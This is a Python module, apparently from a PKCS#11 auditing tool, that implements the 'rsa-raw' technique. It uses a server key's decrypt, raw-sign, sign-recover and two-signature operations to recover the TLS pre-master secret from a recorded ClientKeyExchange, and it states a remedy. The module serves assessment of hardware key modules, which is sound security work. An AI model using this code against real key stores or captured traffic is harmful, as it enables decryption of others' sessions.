"""rsa-raw: the private key's bare operation, under whatever name, on a recorded ClientKeyExchange."""

from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from typing import Final

from keyfence.cryptoki import CryptokiError, Mechanism
from keyfence.cryptoki.constants import CKA, CKK, CKM, describe
from keyfence.model import Chain, Key, Lengths, Public, Slice, Stream, Window

from .base import Attack, Bench, Inconclusive, Offer, Technique
from .key_exchange import PRE_MASTER_BYTES, own_exchange
from .pattern_forgery import decrypt_by_signatures
from .recovery import PreMaster, Recovery, Source
from .targets import VICTIM
from .usage import permitted
from .victim import Agreement, Kind, Victim

Run = Callable[[Bench, Mechanism, int, bytes], bytes]


@dataclass(frozen=True, slots=True)
class Operation:
    """A function that applies a private key, and the flag that permits it."""

    function: str
    flag: CKA
    run: Run


def _decrypt(bench: Bench, mechanism: Mechanism, key: int, message: bytes) -> bytes:
    return bench.session.decrypt(mechanism, key, message)


def _sign(bench: Bench, mechanism: Mechanism, key: int, message: bytes) -> bytes:
    return bench.session.sign(mechanism, key, message)


def _sign_recover(bench: Bench, mechanism: Mechanism, key: int, message: bytes) -> bytes:
    session = bench.session
    session.module.sign_recover_init(session.handle, mechanism, key)
    return session.module.sign_recover(session.handle, message)


def _decrypt_message(bench: Bench, mechanism: Mechanism, key: int, message: bytes) -> bytes:
    session = bench.session
    session.module.message_decrypt_init(session.handle, mechanism, key)
    with _ended(lambda: session.module.message_decrypt_final(session.handle)):
        return session.module.decrypt_message(session.handle, None, b"", message)


def _sign_message(bench: Bench, mechanism: Mechanism, key: int, message: bytes) -> bytes:
    session = bench.session
    session.module.message_sign_init(session.handle, mechanism, key)
    with _ended(lambda: session.module.message_sign_final(session.handle)):
        return session.module.sign_message(session.handle, None, message)


def _two_signatures(bench: Bench, mechanism: Mechanism, key: int, message: bytes) -> bytes:
    modulus = bench.session.attribute(key, CKA.MODULUS)
    if not isinstance(modulus, bytes) or len(modulus) != len(message):
        raise Inconclusive("the private key's CKA_MODULUS is not as wide as the message")
    sign = lambda data: bench.session.sign(mechanism, key, data)  # noqa: E731 - a function of one line
    try:
        return decrypt_by_signatures(sign, int.from_bytes(modulus, "big"), message)
    except (ValueError, ArithmeticError):  # 0 has no inverse, and modulo 0 there is nothing
        raise Inconclusive("the private key's numbers and signatures are not RSA's") from None


@contextmanager
def _ended(final: Callable[[], None]) -> Iterator[None]:
    """Message-based operations go on until they are ended, also after a refusal."""
    try:
        yield
    finally:
        with suppress(CryptokiError):
            final()


_DECRYPT: Final = Operation("C_Decrypt", CKA.DECRYPT, _decrypt)
_DECRYPT_MESSAGE: Final = Operation("C_DecryptMessage", CKA.DECRYPT, _decrypt_message)
WAYS: Final[tuple[tuple[CKM, Operation], ...]] = (
    (CKM.RSA_PKCS, _DECRYPT),
    (CKM.RSA_X_509, _DECRYPT),
    (CKM.RSA_X_509, Operation("C_Sign", CKA.SIGN, _sign)),
    (CKM.RSA_X_509, Operation("C_SignRecover", CKA.SIGN_RECOVER, _sign_recover)),
    (CKM.RSA_PKCS, Operation("C_Sign, twice", CKA.SIGN, _two_signatures)),
    (CKM.RSA_PKCS, _DECRYPT_MESSAGE),
    (CKM.RSA_X_509, _DECRYPT_MESSAGE),
    (CKM.RSA_X_509, Operation("C_SignMessage", CKA.SIGN, _sign_message)),
)


class RsaRaw(Technique):
    id = "rsa-raw"
    title = "The private key applied to a recorded key exchange"
    summary = (
        "Decrypting, signing without padding (CKM_RSA_X_509) and their message-based forms are one and the same operation, "
        "c^d mod n, with the result returned. On a recorded ClientKeyExchange that is the pre-master secret in its padding, "
        "so that a key which may only sign decrypts as well. With the padding of CKM_RSA_PKCS two signatures of chosen data do "
        "it, one divided by the other."
    )
    section = "PKCS#11 3.2 §6.1 (CKM_RSA_PKCS, CKM_RSA_X_509), §5.11 and §5.14 (message-based functions)"
    references = (
        "RFC 5246 §7.4.7.1",
        "RFC 8017 §5.1.2, §5.2.1 (RSADP and RSASP1 are one function)",
        "E. Brier, C. Clavier, J.-S. Coron, D. Naccache, CRYPTO 2001 (forgery under a fixed padding)",
    )
    remedy = (
        "CKA_ALLOWED_MECHANISMS on the private key, without CKM_RSA_X_509 and CKM_RSA_PKCS (a module that hashes what it signs "
        "signs nothing chosen); no RSA key exchange."
    )
    kinds = frozenset({Kind.SSL3, Kind.TLS10, Kind.TLS12, Kind.SEPARATED})
    agreement = Agreement.RSA
    one_suite = True

    def attacks(self, victim: Victim) -> Iterable[Attack]:
        return [RsaRawAttack(victim, mechanism, operation) for mechanism, operation in WAYS]


class RsaRawAttack(Attack):
    """One function, one call on the recorded message; rehearsed on a message of our own for the same key."""

    key = "pre-master secret"

    def __init__(self, victim: Victim, mechanism: CKM, operation: Operation) -> None:
        self.victim = victim
        self.mechanism = mechanism
        self.operation = operation

    @property
    def name(self) -> str:
        return f"{describe(CKM, self.mechanism)} by {self.operation.function}"

    @property
    def requires(self) -> tuple[int, ...]:
        return (self.mechanism,)

    def probe(self, bench: Bench) -> Offer:
        own = own_exchange(bench, self.victim)
        if self._open(bench, own.message) != own.pre_master:
            raise Inconclusive(f"{self.operation.function} returned something else than a message's pre-master secret")
        stream = Stream(VICTIM, "VALUE", b"")
        wanted = Slice(stream, 0, PRE_MASTER_BYTES, Key.of(CKK.GENERIC_SECRET), self.key)
        whole = Lengths.exactly(PRE_MASTER_BYTES)
        return Offer((wanted,), (Window(self.operation.function, stream, Public(), Lengths.exactly(0), whole),))

    def execute(self, bench: Bench, chain: Chain) -> Recovery:
        return PreMaster(self._open(bench, self.victim.key_exchange_message), Source.PUBLIC)

    def _open(self, bench: Bench, message: bytes) -> bytes:
        mechanism = Mechanism(self.mechanism)

        def run(key: int) -> bytes:
            return self.operation.run(bench, mechanism, key, message)

        answer = permitted(bench, self.victim.handles.private_key, self.operation.flag, run)
        unpadded = self.mechanism == CKM.RSA_PKCS and self.operation.flag == CKA.DECRYPT
        return answer if unpadded else _unpad(answer)

    def steps(self, chain: Chain) -> tuple[str, ...]:
        name = describe(CKM, self.mechanism)
        return (f"{self.operation.function}({name}, the server's private key, the recorded ClientKeyExchange)",)


def _unpad(block: bytes) -> bytes:
    """EME-PKCS1-v1_5 (RFC 8017 §7.2.2) removed; a module may leave out the leading zero."""
    _, separator, content = block.lstrip(b"\0")[1:].partition(b"\0")
    if block.lstrip(b"\0")[:1] != b"\x02" or not separator:
        raise Inconclusive("the answer is no padded message")
    return content
